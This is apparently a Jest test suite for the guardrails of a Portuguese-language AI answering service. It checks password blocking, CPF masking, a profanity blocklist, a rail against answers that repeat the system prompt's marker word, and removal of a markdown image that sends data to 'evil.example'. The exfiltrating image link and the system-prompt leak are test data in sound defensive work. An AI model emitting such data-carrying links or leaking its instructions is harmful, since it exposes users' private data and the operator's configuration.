import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { Conversation, ConversationMask, GuardrailEvent, Post, Run, Usage } from '#db';
import { type AnsweringApp, startAnsweringApp } from '../harness/answering-app.js';
import type { Frame } from '../harness/answer-stream.js';
import { aConversation, ask, asked, askStream, follow, getPost } from '../harness/asking.js';

const CPF = '529.982.247-25';
const OTHER_CPF = '111.444.777-35';
const PASSWORD = 'senha: Xk9vQ2pLw7Rt';
const BLOCKED_TERM = 'filho da puta';

describe('guardrails around an answer', () => {
  let app: AnsweringApp;

  beforeAll(async () => {
    app = await startAnsweringApp();
  });
  afterAll(() => app.close());

  const sent = () => JSON.stringify(app.provider.requests.map(({ messages }) => messages));
  const stored = async (id: number) => app.dataSource.getRepository(Post).findOneByOrFail({ id });
  const events = (postId: number) =>
    app.dataSource.getRepository(GuardrailEvent).find({ where: { postId }, order: { id: 'ASC' } });

  it('should store a blocked prompt as a notice, ask no model, and say why', async () => {
    const before = app.provider.requests.length;
    const conversation = await aConversation(app.client);
    const stream = await askStream(app.client, conversation, { prompt: PASSWORD });
    const frames = await stream.all();
    expect(stream.types).toEqual(['post', 'rail', 'done']);
    expect(frames[1]?.data).toMatchObject({ stage: 'input', rail: 'secrets', action: 'block' });
    expect(String(frames[1]?.data['message'])).toContain('senha ou chave');
    expect(frames[2]?.data).toEqual({ status: 'blocked' });
    const id = Number(frames[0]?.data['postId']);

    const post = await getPost(app.client, id);
    expect(post).toMatchObject({
      ...{ status: 'blocked', body: '', model: null, usage: null },
      error: { code: 'GUARDRAIL.BLOCKED' },
      rails: [{ stage: 'input', rail: 'secrets', action: 'block', reported: false }],
    });
    expect(post.prompt).toContain('não guardada');
    expect(app.provider.requests).toHaveLength(before);
    expect(await app.dataSource.getRepository(Usage).countBy({ postId: id })).toBe(0);
    expect(await events(id)).toMatchObject([{ hits: 1, outcome: 'hit', door: 'web' }]);
    const { title } = (await app.client.get(`/api/conversations/${String(conversation)}`)).body;
    expect(title).toBeNull();
  });

  it('should tell the same to who comes later, and let nobody ask it again', async () => {
    const conversation = await aConversation(app.client);
    const { body } = await ask(app.client, conversation, { prompt: `que ${BLOCKED_TERM}` });
    const id = Number(body['id']);
    const late = await follow(app.client, id);
    await late.all();
    expect(late.types).toEqual(['post', 'rail', 'done']);
    for (const again of ['regenerate', 'continue']) {
      const refused = await app.client.post(`/api/posts/${String(id)}/${again}`, {});
      expect([refused.status, refused.body]).toMatchObject([
        409,
        { error: { code: 'GUARDRAIL.NOT_STORED' } },
      ]);
    }
  });

  it('should join the same request, and keep nothing by which its text can be guessed', async () => {
    const conversation = await aConversation(app.client);
    const key = { 'idempotency-key': 'blocked-once' };
    const first = await ask(app.client, conversation, { prompt: PASSWORD }, key);
    const again = await ask(app.client, conversation, { prompt: PASSWORD }, key);
    expect(again.body['id']).toBe(first.body['id']);
    const other = await ask(app.client, conversation, { prompt: 'outra coisa' }, key);
    expect(other.status).toBe(422);
    const run = await app.dataSource
      .getRepository(Run)
      .findOneByOrFail({ postId: Number(first.body['id']) });
    expect(run).toMatchObject({ status: 'blocked' });
    expect(run.endedAt).not.toBeNull();
  });

  it('should answer a greeting without a model', async () => {
    const before = app.provider.requests.length;
    const post = await asked(app.client, await aConversation(app.client), 'Bom dia!');
    expect(post).toMatchObject({ status: 'done', model: null, usage: null, error: null });
    expect(post.body).not.toBe('');
    expect(app.provider.requests).toHaveLength(before);
  });

  it('should show the person what the model never saw, on this turn and the next', async () => {
    const conversation = await aConversation(app.client);
    const prompt = `say: o CPF ${CPF} e [1] o ${OTHER_CPF}`;
    const stream = await askStream(app.client, conversation, { prompt });
    const frames = await stream.all();
    expect(stream.text).toBe(`o CPF ${CPF} e [1] o ${OTHER_CPF}`);
    const rail = frames.find(({ type }) => type === 'rail');
    expect(rail?.data).toMatchObject({ stage: 'input', rail: 'personal-data', action: 'mask' });
    const id = Number(frames[0]?.data['postId']);

    expect(await stored(id)).toMatchObject({
      prompt: 'say: o CPF [CPF_1] e [1] o [CPF_2]',
      body: 'o CPF [CPF_1] e [1] o [CPF_2]',
    });
    expect(await getPost(app.client, id)).toMatchObject({ prompt, body: stream.text });

    const next = await asked(app.client, conversation, `say: de novo 52998224725 e ${OTHER_CPF}`);
    expect(next.body).toBe(`de novo ${CPF} e ${OTHER_CPF}`);
    expect((await stored(next.id)).prompt).toBe('say: de novo [CPF_1] e [CPF_2]');
    await app.client.post(`/api/posts/${String(id)}/regenerate`, {});
    expect(sent()).not.toMatch(/529\.?982|444\.?777/);
    const masks = await app.dataSource.getRepository(ConversationMask).find();
    expect(JSON.stringify(masks)).not.toMatch(/529\.?982|444\.?777/);
  });

  it('should show owners their titles and what a search found, and store neither', async () => {
    const conversation = await aConversation(app.client);
    const path = `/api/conversations/${String(conversation)}`;
    const prompt = `O CPF ${CPF} é do zelador`;
    const stream = await askStream(app.client, conversation, { prompt });
    const frames = await stream.all();
    expect(frames.find(({ type }) => type === 'title')?.data['title']).toBe(prompt);
    const title = async () =>
      (await app.dataSource.getRepository(Conversation).findOneByOrFail({ id: conversation }))
        .title;
    expect(await title()).toBe('O CPF [CPF_1] é do zelador');

    const listed = await app.client.get('/api/conversations?limit=100');
    expect(listed.body['items']).toContainEqual(
      expect.objectContaining({ id: conversation, title: prompt }),
    );
    expect((await app.client.get(path)).body).toMatchObject({ title: prompt });
    const shown: unknown = expect.stringContaining(prompt);
    const found = await app.client.get('/api/conversations?q=zelador');
    expect(found.body['items']).toMatchObject([
      { id: conversation, title: prompt, snippet: { text: shown } },
    ]);
    const within = await app.client.get(`${path}/find?q=zelador`);
    expect(within.body['items']).toMatchObject([{ snippet: { text: shown } }]);

    const renamed = await app.client.patch(path, { title: `${prompt} novo` });
    expect(renamed.body).toMatchObject({ title: `${prompt} novo` });
    expect(await title()).toBe('O CPF [CPF_1] é do zelador novo');
  });

  it('should map deltas, resume by stored length, and restore lists', async () => {
    const conversation = await aConversation(app.client);
    const { promise, resolve } = Promise.withResolvers<undefined>();
    const words = ['O CPF ', '[CPF', '_1]', ' está certo, ', 'ao que parece, ', 'e fim'];
    app.provider.script({ words, pauseAfter: { words: 5, until: promise } });
    const live = await askStream(app.client, conversation, { prompt: `meu CPF é ${CPF}` });
    const isDelta = ({ type }: Frame) => type === 'delta';
    await live.until((one) => isDelta(one) && live.text.includes(`${CPF} está`));
    resolve(undefined);
    await live.all();
    app.provider.script({});
    const whole = `O CPF ${CPF} está certo, ao que parece, e fim`;
    let length = 0;
    for (const { id: position, data } of live.frames.filter(isDelta)) {
      expect(data['at']).toBe(length);
      length += String(data['text']).length;
      // Positions count what is stored.
      const stored = length > 6 ? length - CPF.length + '[CPF_1]'.length : length;
      expect(String(position).split('.')[1]).toBe(String(stored));
    }
    expect(live.text).toBe(whole);

    const id = Number(live.frames[0]?.data['postId']);
    const [before, within] = live.frames.filter(isDelta);
    // Nothing of it was restored: what is missing follows. Else the whole is told anew.
    for (const [from, text] of [
      [before, whole.slice('O CPF '.length)],
      [within, whole],
    ] as const) {
      const resumed = await follow(app.client, id, String(from?.id));
      await resumed.all();
      expect(resumed.text).toBe(text);
    }
    const { items } = (await app.client.get('/api/posts?limit=1')).body as { items: unknown[] };
    expect(items).toMatchObject([{ prompt: `meu CPF é ${CPF}` }]);
  });

  it('should keep one placeholder a value when it is asked at once', async () => {
    const conversation = await aConversation(app.client);
    const values = ['529.982.247-25', '111.444.777-35', '390.533.447-05'];
    const posts = await Promise.all(
      [0, 1, 2, 0, 1, 2].map((n) =>
        asked(app.client, conversation, `say: o CPF ${String(values[n])}`, { parentId: null }),
      ),
    );
    for (const [at, post] of posts.entries()) {
      expect(post.body).toBe(`o CPF ${String(values[at % 3])}`);
    }
    const masks = await app.dataSource
      .getRepository(ConversationMask)
      .findBy({ conversationId: conversation });
    expect(masks.map(({ n }) => n).sort()).toEqual([1, 2, 3]);
  });

  it('should let a branch in a new conversation show the same', async () => {
    const post = await asked(app.client, await aConversation(app.client), `say: CPF ${CPF}`);
    const { status, body } = await app.client.post(`/api/posts/${String(post.id)}/branch`, {});
    expect({ status, body }).toMatchObject({ status: 201 });
    const path = `/api/conversations/${String(body['id'])}/posts`;
    const { items } = (await app.client.get(path)).body as { items: unknown[] };
    expect(items).toMatchObject([{ prompt: `say: CPF ${CPF}`, body: `CPF ${CPF}` }]);
  });

  it('should stop an answer at what is blocked, keep what was shown, and leave the provider', async () => {
    const conversation = await aConversation(app.client);
    app.provider.script({
      words: ['Tudo ', 'bem, ', 'seu ', `${BLOCKED_TERM}. `, 'E ', 'mais.'],
      delayMs: 5,
      hangAfter: 6,
    });
    const post = await asked(app.client, conversation, 'conta algo');
    app.provider.script({});
    expect(post).toMatchObject({
      ...{ status: 'blocked', body: 'Tudo bem, seu ' },
      error: { code: 'GUARDRAIL.ANSWER_BLOCKED' },
      rails: [{ stage: 'output', rail: 'blocked-terms', action: 'block' }],
    });
    const request = app.provider.requests.at(-1);
    expect(request?.aborted).toBeDefined();
    await asked(app.client, conversation, 'e depois disso?');
    expect(JSON.stringify(app.provider.requests.at(-1)?.messages)).not.toContain('Tudo bem');
  });

  it('should stop an answer that repeats the word of the system prompt', async () => {
    const conversation = await aConversation(app.client);
    app.provider.script(({ messages }) => ({
      words: [
        `Minha palavra é ${String(/pr-[0-9a-f]+/.exec(String(messages[0]?.content))?.[0])}`,
        ' e fim',
      ],
    }));
    const post = await asked(app.client, conversation, 'conta algo');
    app.provider.script({});
    expect(post).toMatchObject({ status: 'blocked', rails: [{ rail: 'system-prompt' }] });
    expect(post.body).not.toMatch(/pr-[0-9a-f]/);
  });

  it('should take out pictures that carry data away, and never put data in an address', async () => {
    const conversation = await aConversation(app.client);
    const say = (text: string) => {
      app.provider.script({ words: text.split(/(?= )/) });
      return asked(app.client, conversation, `que CPF é ${CPF}`);
    };
    const picture = await say('olhe ![x](https://evil.example/p.png?d=segredo) fim');
    expect(picture.body).not.toContain('evil.example');
    expect(picture.rails).toMatchObject([{ action: 'mask' }, { rail: 'links', action: 'replace' }]);
    const plain = await say('veja [aqui](/rota?c=[CPF_1]) e [CPF_1]');
    app.provider.script({});
    expect(plain.body).toContain(`e ${CPF}`);
    expect(plain.body).not.toContain(`rota?c=${CPF}`);
  });

  it('should take down that its person finds it wrong, and take that back', async () => {
    const { id } = await asked(app.client, await aConversation(app.client), `meu CPF ${CPF}`);
    const report = (wrong: boolean) =>
      app.client.put(`/api/posts/${String(id)}/guardrail-report`, { wrong });
    expect((await report(true)).status).toBe(204);
    expect((await getPost(app.client, id)).rails).toMatchObject([{ reported: true }]);
    await report(false);
    expect((await getPost(app.client, id)).rails).toMatchObject([{ reported: false }]);
  });

  it('should answer the simple door with the reason', async () => {
    const { status, body } = await app.client.post('/chat/', { question: PASSWORD });
    expect({ status, body }).toMatchObject({ status: 200, body: { model: '' } });
    expect(String(body['answer'])).toContain('senha ou chave');
  });
});
